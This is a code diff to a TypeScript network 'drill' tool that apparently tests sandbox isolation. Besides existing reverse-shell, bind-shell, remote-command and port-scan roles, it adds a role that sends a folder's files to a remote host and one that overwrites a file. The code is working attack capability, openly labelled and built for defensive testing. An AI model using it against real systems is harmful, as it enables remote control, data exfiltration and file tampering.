@@ -7,10 +7,16 @@
 //   node peer.ts shell FROM ADDRESS PORT           a shell that is led by who listens there
 //   node peer.ts service ADDRESS                   prints its port; a shell for who comes
 //   node peer.ts type FROM ADDRESS PORT COMMAND... connects, and types the commands
+//   node peer.ts leak FROM ADDRESS PORT FOLDER     connects, and sends the files of a folder
+// Or where the drill itself runs:
+//   node peer.ts read FOLDER                       reads its files; prints how many bytes they have
+//   node peer.ts change FILE                       writes over its beginning
 import { spawn } from 'node:child_process'
 import { once } from 'node:events'
+import { closeSync, openSync, readdirSync, readFileSync, writeSync } from 'node:fs'
 import { connect, createServer } from 'node:net'
 import type { Socket } from 'node:net'
+import { join } from 'node:path'
 
 /** Ends by itself, also when the drill was killed. */
 const LIFE_MS = 20_000
@@ -50,6 +56,26 @@ function send(socket: Socket, bytes: number): void {
   socket.end(Buffer.alloc(bytes, 'drill '))
 }
 
+function filesOf(folder: string): Buffer[] {
+  return readdirSync(folder).map((name) => readFileSync(join(folder, name)))
+}
+
+function leak(socket: Socket, folder: string): void {
+  socket.resume()
+  socket.end(Buffer.concat(filesOf(folder)))
+}
+
+function read(folder: string): void {
+  const bytes = filesOf(folder).reduce((sum, file) => sum + file.length, 0)
+  process.stdout.write(`${bytes}\n`)
+}
+
+function change(file: string): void {
+  const descriptor = openSync(file, 'r+')
+  process.stdout.write(`${writeSync(descriptor, 'changed by a drill')}\n`)
+  closeSync(descriptor)
+}
+
 async function scan(localAddress: string, host: string, ports: number): Promise<void> {
   for (let port = 1; port <= ports; port++) {
     const socket = connect({ host, port, localAddress })
@@ -84,6 +110,9 @@ function act(role: string, address: string, words: string[]): void {
     case 'shell': return call(address, host, port, lead)
     case 'type': return call(address, host, port, (socket) => command(socket, words.slice(2)))
     case 'connect': return call(address, host, port, (socket) => send(socket, Number(words[2])))
+    case 'leak': return call(address, host, port, (socket) => leak(socket, words[2]))
+    case 'read': return read(address)
+    case 'change': return change(address)
     default: throw new TypeError(`no such role: ${role}`)
   }
 }
